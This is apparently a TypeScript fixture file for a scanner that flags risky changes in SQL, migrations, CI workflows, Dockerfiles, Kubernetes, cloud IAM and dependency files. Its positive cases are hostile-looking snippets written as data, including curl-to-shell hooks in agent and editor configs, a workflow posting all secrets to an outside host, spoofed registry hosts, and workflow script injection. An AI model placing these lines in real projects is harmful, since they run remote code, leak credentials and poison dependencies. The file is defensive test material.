/** Texts of one group: rule and path and added lines; for false ones path and lines. */
export interface Cases {
  found: readonly (readonly [id: string, path: string, text: string])[];
  quiet: readonly (readonly [path: string, text: string])[];
}

const raw = String.raw;
const WORKFLOW = '.github/workflows/ci.yml';
const RUN = 'risk-fetch-and-run';
const BY_HAND = 'risk-pipe-to-shell';

/** Cases of databases, builds, containers, clusters and clouds. */
export const operationCases: Record<string, Cases> = {
  sql: {
    found: [
      ['risk-schema-drop', 'migrations/3.sql', 'DROP SCHEMA billing CASCADE;'],
      ['risk-schema-drop', 'sql/reset.sql', 'drop database if_there;'],
      [
        'risk-sql-column-drop',
        'db/V7__x.sql',
        'ALTER TABLE a DROP COLUMN IF EXISTS b, DROP COLUMN c;',
      ],
      ['risk-sql-delete-all', 'db/clean.sql', 'DELETE FROM `app`.`events`;'],
      ['risk-sql-update-all', 'a.sql', 'UPDATE accounts SET\n  balance = 0,\n  closed = false;'],
      ['risk-sql-grant-wide', 'a.sql', 'grant update on accounts to public;'],
      ['risk-sql-superuser', 'a.sql', "create user root2 with password 'x' superuser;"],
      ['risk-sql-type-change', 'a.sql', 'ALTER TABLE t ALTER COLUMN n SET DATA TYPE smallint;'],
    ],
    quiet: [
      ['src/menu.ts', 'const dropTable = menu.drop("table users");'],
      ['db/V8__x.sql', "DELETE FROM events WHERE at < now() - interval '90 days';"],
      ['db/V8__x.sql', 'UPDATE a SET b = c.d FROM c WHERE c.id = a.id;'],
      ['db/V8__x.sql', 'ALTER TABLE a ADD COLUMN b timestamptz NOT NULL DEFAULT now();'],
      ['db/V8__x.sql', '-- we used to TRUNCATE TABLE a here'],
      ['migrations/3.down.sql', 'DROP TABLE billing;'],
      ['test/fixtures/reset.sql', 'DELETE FROM users;'],
    ],
  },
  migrations: {
    found: [
      ['risk-rails-drop', 'db/migrate/1_a.rb', '      t.remove :nickname'],
      ['risk-rails-change', 'db/migrate/1_a.rb', '    change_column_null :users, :email, false'],
      [
        'risk-django-drop',
        'a/migrations/0002_x.py',
        "        migrations.RemoveField(model_name='a', name='b'),",
      ],
      [
        'risk-alembic-drop',
        'alembic/versions/a.py',
        "def upgrade():\n    with op.batch_alter_table('a') as batch_op:\n        batch_op.drop_column('b')",
      ],
      [
        'risk-js-migration-drop',
        'src/migrations/1-a.ts',
        "  public async up(q: QueryRunner) {\n    await q.dropColumn('a', 'b');",
      ],
      ['risk-orm-schema-sync', 'src/app.ts', '  await sequelize.sync({ alter: true });'],
      ['risk-data-reset-command', 'bin/deploy.sh', 'bundle exec rails db:drop db:create'],
    ],
    quiet: [
      ['db/migrate/1_a.rb', '    add_reference :users, :team'],
      ['a/migrations/0002_x.py', "        migrations.AddField(model_name='a', name='b', field=f),"],
      [
        'alembic/versions/a.py',
        "def upgrade():\n    op.create_table('a')\n\n\ndef downgrade():\n    op.drop_table('a')",
      ],
      ['migrations/1.js', "exports.down = async (knex) => {\n  await knex.schema.dropTable('a');"],
      ['src/list.rb', '    remove_column :a, :b'],
      ['test/db.test.ts', '  await sequelize.sync({ force: true });'],
    ],
  },
  workflows: {
    found: [
      [
        'risk-workflow-script-injection',
        WORKFLOW,
        `      - name: say\n        run: |\n          set -x\n\n          # greet\n          if true; then\n            echo \${{ github.event.comment.body }}`,
      ],
      [
        'risk-workflow-script-injection',
        'action.yml',
        `    - run: ./x --title="\${{ github.event.pull_request.title }}"`,
      ],
      ...[
        `      - run: echo "\${{ github.event.issue['title'] }}"`,
        `      - run: echo "\${{ github [ 'event' ] . issue . body }}"`,
        `      - run: echo "\${{ GITHUB.event.Comment.body }}"`,
        `      - run: echo '\${{ toJSON(github.event.pull_request) }}'`,
        `      - run: echo '\${{ toJson(github) }}'`,
        `      - run: echo "\${{ github.event.head_commit.author.email }}"`,
        `      - run: echo "\${{ github.event.commits[0].message }}"`,
        `      - run: echo "\${{ format('{0} {1}', 'a', github.event.review.body) }}"`,
        `      - {name: a, run: "echo \${{ github.event.discussion.title }}"}`,
        `      - "run": echo \${{ github.event.issue.title || 'none' }}`,
        `        with:\n          script: |\n            core.info("\${{ github.event.issue.body }}")`,
      ].map((text) => ['risk-workflow-script-injection', WORKFLOW, text] as const),
      ...[
        `          ref: \${{ github['event'].pull_request.head.sha }}`,
        `          ref: \${{ github.event.pull_request.head.REF }}`,
        `          repository: \${{ github.event.pull_request.head.repo.full_name }}`,
        `          ref: refs/pull/\${{ github.event.number }}/head`,
        `    env:\n      SHA: \${{ github.event.pull_request.head.sha }}\n    steps:\n      - run: git fetch origin && git checkout $SHA`,
        `    env:\n      SHA: \${{ github.head_ref }}\n    steps:\n      - with:\n          ref: \${{ env.SHA }}`,
        '      - run: gh pr checkout 12',
      ].map((text) => {
        const head = 'on: pull_request_target\njobs:\n  a:\n';
        return ['risk-workflow-untrusted-checkout', WORKFLOW, `${head}${text}`] as const;
      }),
      [
        'risk-workflow-all-secrets-sent',
        WORKFLOW,
        `      - env:\n          S: \${{ toJSON( secrets ) }}\n        run: curl -d "$S" https://acme.io`,
      ],
      [
        'risk-workflow-variable-injection',
        WORKFLOW,
        `    env:\n      T: \${{ github.event.issue.title }}\n    steps:\n      - run: echo "\${{ env.T }}"`,
      ],
      [
        'risk-gitlab-script-injection',
        '.gitlab-ci.yml',
        '    - sh -c "echo $CI_MERGE_REQUEST_TITLE"',
      ],
      ['risk-package-escaped-name', 'package.json', raw`    "post\u0069nstall": "node a.js"`],
      [
        'risk-workflow-branch-injection',
        WORKFLOW,
        `      - run: ./deploy \${{ github.event.pull_request.head.ref }}`,
      ],
      ['risk-workflow-write-all', WORKFLOW, 'permissions: write-all'],
      [
        'risk-workflow-secrets-inherit',
        WORKFLOW,
        '    uses: "other/repo/.github/workflows/x.yml@v2"\n    secrets: inherit',
      ],
      ['risk-workflow-secret-printed', WORKFLOW, `        run: echo \${{ secrets.DEPLOY_KEY }}`],
      ['risk-action-branch', WORKFLOW, '      - uses: "some/action/sub@master"'],
      [
        'risk-workflow-own-runner',
        WORKFLOW,
        'on:\n  pull_request:\njobs:\n  a:\n    runs-on: self-hosted',
      ],
    ],
    quiet: [
      [
        WORKFLOW,
        `      - run: |\n          echo one\n      - uses: actions/github-script@v7\n        with:\n          title: \${{ github.event.issue.title }}`,
      ],
      [
        WORKFLOW,
        `        env:\n          BODY: \${{ github.event.comment.body }}\n        run: ./x "$BODY"`,
      ],
      [WORKFLOW, `      - run: echo "\${{ github.event.pull_request.number }} \${{ github.sha }}"`],
      [WORKFLOW, `        if: contains(github.event.head_commit.message, 'x')`],
      [
        WORKFLOW,
        `on: pull_request\njobs:\n  a:\n    env:\n      SHA: \${{ github.event.pull_request.head.sha }}\n    steps:\n      - run: git checkout $SHA`,
      ],
      [WORKFLOW, `      - run: echo "\${{ github['event']['number'] }} \${{ env.NODE }}"`],
      [WORKFLOW, `      - {name: a, run: "echo \${{ github.sha }}"}`],
      ['.gitlab-ci.yml', '    - notify "$CI_MERGE_REQUEST_TITLE"'],
      ['package.json', raw`    "description": "caf\u00e9"`],
      [WORKFLOW, 'permissions:\n  contents: write'],
      [WORKFLOW, '      - uses: some/action@0123456789abcdef0123456789abcdef01234567 # v2'],
      [WORKFLOW, `          TOKEN: \${{ secrets.GITHUB_TOKEN }}`],
    ],
  },
  pipelines: {
    found: [
      [
        'risk-download-unverified',
        'Dockerfile',
        'RUN wget --no-check-certificate https://acme.io/a.tgz',
      ],
      ['risk-unsigned-packages', 'Dockerfile', 'RUN apk add --allow-untrusted tool.apk'],
      ['risk-check-may-fail', 'azure-pipelines.yml', '    continueOnError: true'],
      ['risk-check-result-ignored', 'Makefile', '\tpytest tests || true'],
      ['risk-jenkins-injection', 'ci/Jenkinsfile', `      sh """deploy \${params.VERSION}"""`],
      ['risk-history-rewritten', 'bin/sync.sh', 'git push origin +main --force'],
    ],
    quiet: [
      ['Dockerfile', 'RUN curl -fsSL https://acme.io/key.asc | gpg --dearmor -o /etc/key.gpg'],
      ['bin/run.sh', 'curl --silent https://acme.io/a.json | jq .version'],
      ['Makefile', '\t-rm -rf build || true'],
      [WORKFLOW, '        continue-on-error: false'],
      ['bin/sync.sh', 'git push --force-with-lease origin feature'],
      ['Jenkinsfile', `    sh 'deploy'`],
    ],
  },
  fetchAndRun: {
    found: [
      [RUN, '.gitlab-ci.yml', '    - curl -sSL https://install.acme.io | bash -s -- --yes'],
      [RUN, 'Dockerfile', 'RUN curl -fsSL https://acme.io/s.sh -o s.sh && sh s.sh'],
      [RUN, 'Dockerfile.dev', 'RUN wget https://acme.io/s.sh; chmod +x s.sh; ./s.sh'],
      [RUN, '.husky/pre-commit', 'wget -qO- https://acme.io/check.sh | bash'],
      [RUN, 'deploy/a.service', `ExecStart=/bin/sh -c "curl -s https://acme.io/a | sh"`],
      [RUN, '.pnpmfile.cjs', `require('child_process').execSync('curl https://acme.io/a | sh')`],
      [RUN, 'setup.py', `exec(urlopen('https://acme.io/hook.py').read())`],
      [RUN, 'setup.py', `exec(requests.get('https://acme.io/hook.py').text)`],
      [RUN, 'build.rs', `    Command::new("sh").arg("-c").arg("curl https://acme.io/a | sh");`],
      [RUN, 'binding.gyp', `  'sources': [ '<!(curl -s https://acme.io/a.sh | sh)' ],`],
      [RUN, '.mcp.json', `  "args": ["-c", "curl -s https://acme.io/mcp.sh | sh"]`],
      [RUN, '.claude/settings.json', `  "command": "bash <(curl -s https://acme.io/hook)"`],
      [
        RUN,
        '.devcontainer/devcontainer.json',
        `  "postCreateCommand": "curl https://acme.io | bash"`,
      ],
      [RUN, '.vscode/tasks.json', `  "command": "eval "$(curl -fsSL https://acme.io/x)""`],
      [RUN, '.envrc', 'source <(curl -s https://acme.io/env)'],
      [RUN, WORKFLOW, '      - run: x=$(curl -s https://acme.io/a); eval "$x"'],
      [RUN, WORKFLOW, '      - run: python3 <(curl -s https://acme.io/a.py)'],
      [
        RUN,
        WORKFLOW,
        '      - run: iex ((New-Object Net.WebClient).DownloadString("https://a.io"))',
      ],
      [RUN, WORKFLOW, '      - run: irm https://acme.io/i.ps1 | iex'],
      [RUN, 'Jenkinsfile', `    sh 'curl -s https://acme.io/a | sudo -E python3 -'`],
      ['risk-generate-fetch-and-run', 'gen.go', '//go:generate sh -c "curl https://acme.io | sh"'],
      ['risk-npm-script-shell', '.npmrc', 'script-shell=./tools/sh'],
      [
        'risk-install-download',
        'package.json',
        `    "prepare": "curl https://acme.io/a.sh -o a.sh"`,
      ],
      [BY_HAND, 'tools/setup.sh', 'curl -sSL https://install.acme.io | bash'],
      [BY_HAND, 'Makefile', '\tcurl -o a.sh https://acme.io/a.sh && bash a.sh'],
      [BY_HAND, 'src/update.py', `exec(urlopen(address).read())`],
      [BY_HAND, 'src/update.js', `eval(await (await fetch(address)).text());`],
      [BY_HAND, 'lib/update.rb', `eval(URI.open(address).read)`],
    ],
    quiet: [
      ['Dockerfile', 'RUN curl -fsSL https://acme.io/a.tgz | tar -xz -C /opt'],
      ['Dockerfile', 'RUN curl -fsSLo a.sh https://a.io/a && sha256sum -c a.sum && sh a.sh'],
      ['Dockerfile', 'RUN wget -O /usr/bin/kubectl https://acme.io/kubectl'],
      ['Dockerfile', '# RUN curl https://acme.io | sh'],
      ['Dockerfile', 'RUN apt-get update && apt-get install -y curl && bash setup.sh'],
      [WORKFLOW, '      - run: curl -s https://acme.io/a.json | jq .version'],
      [WORKFLOW, '      - run: curl -fsS https://acme.io/health && sh smoke.sh'],
      [WORKFLOW, '      - run: npx playwright install --with-deps'],
      ['.mcp.json', `  "command": "npx", "args": ["-y", "@acme/docs-server"]`],
      ['.devcontainer/devcontainer.json', `  "postCreateCommand": "npm ci"`],
      ['setup.py', `text = urlopen('https://acme.io/a.json').read()`],
      ['.npmrc', 'script-shell=/bin/bash'],
      ['gen.go', '//go:generate go run ./gen'],
      ['.husky/pre-push', 'npm test'],
      ['build.rs', '    println!("cargo:rerun-if-changed=build.rs");'],
      ['src/load.js', 'const answer = await fetch(address); evaluate(answer);'],
      ['README.md', 'curl -sSL https://install.acme.io | bash'],
    ],
  },
  containers: {
    found: [
      ['risk-privileged-container', 'compose.yaml', '    privileged: true'],
      [
        'risk-docker-socket',
        'k8s/agent.yaml',
        '      - "/var/run/docker.sock:/var/run/docker.sock:ro"',
      ],
      ['risk-container-capability', 'compose.yaml', '    cap_add: [SYS_PTRACE]'],
      ['risk-container-unconfined', 'run.sh', 'docker run --security-opt seccomp=unconfined app'],
      ['risk-host-path', 'k8s/agent.yaml', '        hostPath:\n          path: /var/lib/kubelet'],
      ['risk-root-user', 'build/Dockerfile.prod', 'USER root'],
      ['risk-image-secret', 'Dockerfile', 'ARG GITHUB_TOKEN=abc'],
    ],
    quiet: [
      ['compose.yaml', '    read_only: true'],
      ['compose.yaml', '    cap_drop: [ALL]'],
      ['k8s/agent.yaml', '        hostPath:\n          path: /opt/acme/cache'],
      ['Dockerfile', 'USER 1000:1000'],
      ['Dockerfile', 'ARG TOKENIZER_VERSION=1'],
      ['compose.yaml', '    image: postgres:17.2'],
    ],
  },
  kubernetes: {
    found: [
      [
        'risk-k8s-cluster-admin',
        'k8s/a.yaml',
        'roleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin',
      ],
      [
        'risk-k8s-rbac-wildcard',
        'k8s/a.yaml',
        'rules:\n- apiGroups: ["*"]\n  resources: ["*"]\n  verbs: ["get"]',
      ],
      ['risk-k8s-anonymous', 'k8s/a.yaml', '- kind: Group\n  name: system:unauthenticated'],
      ['risk-k8s-tls-off', 'k8s/a.yaml', '    insecure_skip_verify: true'],
      ['risk-k8s-exposed-service', 'chart/values.yaml', '  type: NodePort'],
    ],
    quiet: [
      ['k8s/a.yaml', 'roleRef:\n  kind: Role\n  name: reader'],
      ['k8s/a.yaml', '  resources: ["pods"]\n  verbs: ["get", "watch"]'],
      ['k8s/a.yaml', '  type: ClusterIP'],
      ['k8s/a.yaml', '    failurePolicy: Fail'],
      ['src/bind.ts', "verbs.bind('escalate');"],
    ],
  },
  cloud: {
    found: [
      [
        'risk-ingress-admin-port',
        'main.tf',
        '  ingress {\n    cidr_blocks = ["0.0.0.0/0"]\n    from_port = 3389\n    to_port = 3389\n  }',
      ],
      ['risk-public-bucket', 'main.tf', '  restrict_public_buckets = false'],
      [
        'risk-public-writable-bucket',
        'bin/up.sh',
        'aws s3api put-bucket-acl --bucket b --acl public-read-write',
      ],
      ['risk-deletion-unprotected', 'stack.ts', '  removalPolicy: cdk.RemovalPolicy.DESTROY,'],
      ['risk-encryption-off', 'main.tf', '  transit_encryption_enabled = false'],
      ['risk-destructive-command', WORKFLOW, '      - run: terraform destroy -auto-approve'],
    ],
    quiet: [
      ['main.tf', '  egress {\n    from_port = 22\n    cidr_blocks = ["0.0.0.0/0"]\n  }'],
      ['main.tf', '  ingress {\n    from_port = 22\n    cidr_blocks = [var.office]\n  }'],
      ['main.tf', '  acl = "private"'],
      ['main.tf', '  deletion_protection = var.protect'],
      ['bin/up.sh', 'terraform apply plan.out'],
    ],
  },
  cloudAccess: {
    found: [
      ['risk-iam-wildcard', 'iam.json', '    "Action": ["*"],'],
      ['risk-iam-service-wildcard', 'iam.tf', '    actions = ["sts:*"]'],
      ['risk-iam-principal-any', 'iam.json', '      "Principal": {"AWS": "*"},'],
      ['risk-cloud-admin-role', 'iam.tf', '  role = "roles/editor"'],
      [
        'risk-oidc-any-repository',
        'iam.json',
        '  "token.actions.githubusercontent.com:sub": "repo:acme/*"',
      ],
      ['risk-terraform-module-unpinned', 'main.tf', '  source = "git@git.acme.io:infra/vpc.git"'],
    ],
    quiet: [
      ['iam.json', '    "Action": ["s3:Get*"],'],
      ['iam.tf', '    actions = ["kms:Decrypt"]'],
      ['iam.json', '      "Principal": {"AWS": "arn:aws:iam::123456789012:root"},'],
      ['iam.tf', '  role = "roles/storage.objectViewer"'],
      ['main.tf', '  source = "terraform-aws-modules/vpc/aws"'],
    ],
  },
  dependencies: {
    found: [
      ['risk-install-download', 'package.json', '    "install": "node -e \\"eval(1)\\""'],
      ['risk-npm-foreign-source', 'package.json', '    "a": "github:acme/a",'],
      [
        'risk-lockfile-host',
        'package-lock.json',
        '      "resolved": "https://registry.npmjs.com.evil.io/a/-/a-1.0.0.tgz",',
      ],
      [
        'risk-lockfile-host',
        'yarn.lock',
        '  resolved "https://registry.yarnpkg.co/a/-/a-1.0.0.tgz#aa"',
      ],
      ['risk-registry-changed', 'app/.npmrc', 'registry = https://registry.npmjs.org.acme.io/'],
      [
        'risk-pip-index',
        'Dockerfile',
        'RUN pip install --extra-index-url=https://pypi.acme.io/simple acme',
      ],
      ['risk-go-checksum-off', 'Makefile', 'export GONOSUMDB=*'],
      ['risk-go-replace', 'go.mod', 'replace golang.org/x/crypto => github.com/evil/crypto v0.0.1'],
      [
        'risk-wrapper-source',
        'gradle/wrapper/gradle-wrapper.properties',
        'distributionUrl=https\\://services.gradle.org.evil.io/g.zip',
      ],
    ],
    quiet: [
      [
        'package-lock.json',
        '      "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",\n      "integrity": "sha512-aa"',
      ],
      ['package.json', '    "postinstall": "husky"'],
      ['package.json', '    "a": "workspace:*",'],
      ['.npmrc', 'registry=https://registry.npmjs.org'],
      ['requirements.txt', 'flask==3.1.0'],
      ['go.mod', 'replace example.com/a => ./a'],
    ],
  },
};
